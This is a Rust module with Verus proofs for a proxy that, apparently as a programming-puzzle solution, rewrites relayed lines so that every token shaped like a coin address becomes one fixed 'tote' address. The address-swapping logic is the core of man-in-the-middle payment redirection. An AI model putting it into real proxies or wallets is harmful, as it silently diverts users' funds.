//! Line-rewriting logic for the transparent proxy.
//!
//! Each forwarded line has every recognized coin address replaced by the
//! fixed tote address. A token is recognized when it is a maximal run of
//! word bytes that starts with '7', holds only ASCII letters and digits,
//! is 26 to 35 bytes long, and is bounded on both sides by a space or
//! the line edge. An underscore joins a word run — so it denies the run
//! a boundary — but a run holding one is never an address. No regular
//! expression engine is involved: the scan inspects the boundary bytes
//! explicitly.

use vstd::prelude::*;

verus! {

/// Word bytes: ASCII letters, digits and underscore.
pub open spec fn is_word_byte(b: u8) -> bool {
    (48 <= b <= 57) || (65 <= b <= 90) || (97 <= b <= 122) || b == 95
}

fn word_byte(b: u8) -> (r: bool)
    ensures
        r == is_word_byte(b),
{
    (48 <= b && b <= 57) || (65 <= b && b <= 90) || (97 <= b && b <= 122) || b == 95
}

/// The fixed tote address written over every recognized coin address.
pub open spec fn tote_bytes() -> Seq<u8> {
    seq![
        55u8, 89u8, 87u8, 72u8, 77u8, 102u8, 107u8, 57u8, 74u8, 90u8, 101u8, 48u8, 76u8, 77u8,
        48u8, 103u8, 49u8, 90u8, 97u8, 117u8, 72u8, 117u8, 105u8, 83u8, 120u8, 104u8, 73u8,
    ]
}

fn tote_address() -> (r: Vec<u8>)
    ensures
        r@ == tote_bytes(),
{
    let mut r: Vec<u8> = Vec::new();
    r.push(55);
    r.push(89);
    r.push(87);
    r.push(72);
    r.push(77);
    r.push(102);
    r.push(107);
    r.push(57);
    r.push(74);
    r.push(90);
    r.push(101);
    r.push(48);
    r.push(76);
    r.push(77);
    r.push(48);
    r.push(103);
    r.push(49);
    r.push(90);
    r.push(97);
    r.push(117);
    r.push(72);
    r.push(117);
    r.push(105);
    r.push(83);
    r.push(120);
    r.push(104);
    r.push(73);
    assert(r@ =~= tote_bytes());
    r
}

/// The first position at or after `i` that is not a word byte.
pub open spec fn run_end(s: Seq<u8>, i: int) -> int
    decreases s.len() - i,
{
    if i < 0 || i >= s.len() || !is_word_byte(s[i]) {
        i
    } else {
        run_end(s, i + 1)
    }
}

/// `run_end` stays within the line and covers word bytes only.
pub proof fn lemma_run_end_char(s: Seq<u8>, i: int)
    requires
        0 <= i <= s.len(),
    ensures
        i <= run_end(s, i) <= s.len(),
        forall|m: int| i <= m < run_end(s, i) ==> is_word_byte(s[m]),
        run_end(s, i) < s.len() ==> !is_word_byte(s[run_end(s, i)]),
    decreases s.len() - i,
{
    if i < s.len() && is_word_byte(s[i]) {
        lemma_run_end_char(s, i + 1);
    }
}

/// ASCII letters and digits: the only bytes an address may hold.
pub open spec fn is_token_byte(b: u8) -> bool {
    (48 <= b <= 57) || (65 <= b <= 90) || (97 <= b <= 122)
}

fn token_byte(b: u8) -> (r: bool)
    ensures
        r == is_token_byte(b),
{
    (48 <= b && b <= 57) || (65 <= b && b <= 90) || (97 <= b && b <= 122)
}

/// Whether the maximal run `[i, j)` is a recognized coin address: it
/// starts with '7', holds letters and digits only, is 26 to 35 bytes
/// long, and a space or the line edge stands on both sides. A run with
/// an underscore in it is never an address: the underscore is a word
/// byte, so no token can end against it either.
pub open spec fn coin_run(s: Seq<u8>, i: int, j: int) -> bool {
    &&& s[i] == 55
    &&& 26 <= j - i <= 35
    &&& (forall|m: int| i <= m < j ==> is_token_byte(s[m]))
    &&& (i == 0 || s[i - 1] == 32)
    &&& (j == s.len() || s[j] == 32)
}

/// The rewritten tail of the line from position `i` on: bytes outside
/// word runs are kept, each maximal word run is either replaced by the
/// tote address or kept whole.
pub open spec fn rewrite_from(s: Seq<u8>, i: int) -> Seq<u8>
    decreases s.len() - i,
    when 0 <= i
    via rewrite_from_dec
{
    if i >= s.len() {
        seq![]
    } else if !is_word_byte(s[i]) {
        seq![s[i]] + rewrite_from(s, i + 1)
    } else {
        let j = run_end(s, i + 1);
        (if coin_run(s, i, j) {
            tote_bytes()
        } else {
            s.subrange(i, j)
        }) + rewrite_from(s, j)
    }
}

#[via_fn]
proof fn rewrite_from_dec(s: Seq<u8>, i: int) {
    if 0 <= i < s.len() && is_word_byte(s[i]) {
        lemma_run_end_char(s, i + 1);
    }
}

/// The rewritten form of a whole line, with the trailing newline the
/// proxy writes after it.
pub open spec fn transformed(s: Seq<u8>) -> Seq<u8> {
    rewrite_from(s, 0) + seq![10u8]
}

/// Rewrites one line (without its newline) for forwarding: recognized
/// coin addresses become the tote address, everything else is kept, and
/// exactly one newline is appended.
pub fn transform_line(line: &[u8]) -> (r: Vec<u8>)
    ensures
        r@ == transformed(line@),
{
    let mut out: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < line.len()
        invariant
            i <= line@.len(),
            out@ + rewrite_from(line@, i as int) == rewrite_from(line@, 0),
        decreases line@.len() - i,
    {
        let ghost pre = out@;
        let b = line[i];
        if !word_byte(b) {
            out.push(b);
            i += 1;
            proof {
                assert(out@ + rewrite_from(line@, i as int) =~= pre + rewrite_from(
                    line@,
                    i - 1,
                ));
            }
        } else {
            let start = i;
            let mut j = i + 1;
            let mut clean = true;
            while j < line.len() && word_byte(line[j])
                invariant
                    start < j <= line@.len(),
                    forall|m: int| start + 1 <= m < j ==> is_word_byte(line@[m]),
                    clean ==> forall|m: int| start + 1 <= m < j ==> is_token_byte(line@[m]),
                    !clean ==> exists|m: int|
                        start + 1 <= m < j && !is_token_byte(#[trigger] line@[m]),
                    decreases line@.len() - j,
            {
                if !token_byte(line[j]) {
                    clean = false;
                }
                j += 1;
            }
            proof {
                lemma_run_end_char(line@, start + 1);
                assert(run_end(line@, start + 1) == j) by {
                    let e = run_end(line@, start + 1);
                    if e < j {
                        assert(is_word_byte(line@[e]));
                    } else if e > j {
                        assert(is_word_byte(line@[j as int]));
                    }
                }
            }
            let is_coin = line[start] == 55 && clean && j - start >= 26 && j - start <= 35 && (
            start == 0 || line[start - 1] == 32) && (j == line.len() || line[j] == 32);
            proof {
                let si = start as int;
                let ji = j as int;
                if is_coin {
                    assert forall|m: int| si <= m < ji implies is_token_byte(line@[m]) by {
                        if m == si {
                            assert(line@[m] == 55);
                        }
                    }
                } else if line@[si] == 55 && 26 <= ji - si <= 35 && (si == 0 || line@[si - 1]
                    == 32) && (ji == line@.len() || line@[ji] == 32) {
                    assert(!clean);
                    let m = choose|m: int|
                        si + 1 <= m < ji && !is_token_byte(#[trigger] line@[m]);
                    assert(!is_token_byte(line@[m]));
                    assert(!coin_run(line@, si, ji));
                }
                assert(coin_run(line@, si, ji) == is_coin);
            }
            if is_coin {
                let mut tote = tote_address();
                out.append(&mut tote);
            } else {
                let mut k = start;
                while k < j
                    invariant
                        start <= k <= j,
                        j <= line@.len(),
                        out@ == pre + line@.subrange(start as int, k as int),
                    decreases j - k,
                {
                    out.push(line[k]);
                    k += 1;
                    assert(out@ =~= pre + line@.subrange(start as int, k as int));
                }
            }
            i = j;
            proof {
                assert(out@ + rewrite_from(line@, i as int) =~= pre + rewrite_from(
                    line@,
                    start as int,
                ));
            }
        }
    }
    proof {
        assert(rewrite_from(line@, i as int) =~= Seq::<u8>::empty());
        assert(out@ =~= rewrite_from(line@, 0));
    }
    out.push(10);
    proof {
        assert(out@ =~= transformed(line@));
    }
    out
}

/// The first newline in a buffer, or -1.
pub open spec fn nl_index(s: Seq<u8>) -> int
    decreases s.len(),
{
    if s.len() == 0 {
        -1
    } else if s[0] == 10 {
        0
    } else {
        let r = nl_index(s.drop_first());
        if r < 0 {
            -1
        } else {
            r + 1
        }
    }
}

/// `nl_index` finds the first newline, if any.
pub proof fn lemma_nl_index_char(s: Seq<u8>)
    ensures
        nl_index(s) == -1 ==> forall|j: int| 0 <= j < s.len() ==> s[j] != 10,
        nl_index(s) != -1 ==> {
            let i = nl_index(s);
            &&& 0 <= i < s.len()
            &&& s[i] == 10
            &&& forall|j: int| 0 <= j < i ==> s[j] != 10
        },
    decreases s.len(),
{
    if s.len() > 0 && s[0] != 10 {
        let d = s.drop_first();
        lemma_nl_index_char(d);
        assert(forall|j: int| 0 < j < s.len() ==> s[j] == d[j - 1]);
        if nl_index(d) == -1 {
            assert forall|j: int| 0 <= j < s.len() implies s[j] != 10 by {
                if j > 0 {
                    assert(s[j] == d[j - 1]);
                }
            }
        } else {
            let r = nl_index(d);
            assert(s[r + 1] == d[r]);
            assert forall|j: int| 0 <= j < r + 1 implies s[j] != 10 by {
                if j > 0 {
                    assert(s[j] == d[j - 1]);
                }
            }
        }
    }
}

/// Takes the first complete line off the buffer, without its newline;
/// the buffer keeps everything after that newline. Without a newline
/// the buffer is left untouched.
pub fn next_line(b: &mut Vec<u8>) -> (r: Option<Vec<u8>>)
    ensures
        match r {
            Some(line) => {
                let i = nl_index(old(b)@);
                &&& i >= 0
                &&& line@ == old(b)@.subrange(0, i)
                &&& final(b)@ == old(b)@.subrange(i + 1, old(b)@.len() as int)
            },
            None => {
                &&& nl_index(old(b)@) == -1
                &&& final(b)@ == old(b)@
            },
        },
{
    match find_nl(b.as_slice()) {
        Some(i) => {
            let n = b.len();
            proof {
                lemma_nl_index_char(b@);
                assert(i < n);
            }
            let line = vstd::slice::slice_to_vec(&b.as_slice()[0..i]);
            let rest = vstd::slice::slice_to_vec(&b.as_slice()[i + 1..n]);
            *b = rest;
            Some(line)
        },
        None => {
            None
        },
    }
}

/// Position of the first newline in the buffer, if any.
fn find_nl(b: &[u8]) -> (r: Option<usize>)
    ensures
        match r {
            Some(i) => nl_index(b@) == i,
            None => nl_index(b@) == -1,
        },
{
    let mut i: usize = 0;
    while i < b.len()
        invariant
            i <= b@.len(),
            forall|j: int| 0 <= j < i ==> b@[j] != 10,
        decreases b@.len() - i,
    {
        if b[i] == 10 {
            proof {
                lemma_nl_index_char(b@);
                let k = nl_index(b@);
                if k == -1 {
                    assert(b@[i as int] == 10);
                }
            }
            return Some(i);
        }
        i += 1;
    }
    proof {
        lemma_nl_index_char(b@);
        let k = nl_index(b@);
        if k != -1 {
            assert(b@[k] == 10);
        }
    }
    None
}

} // verus!
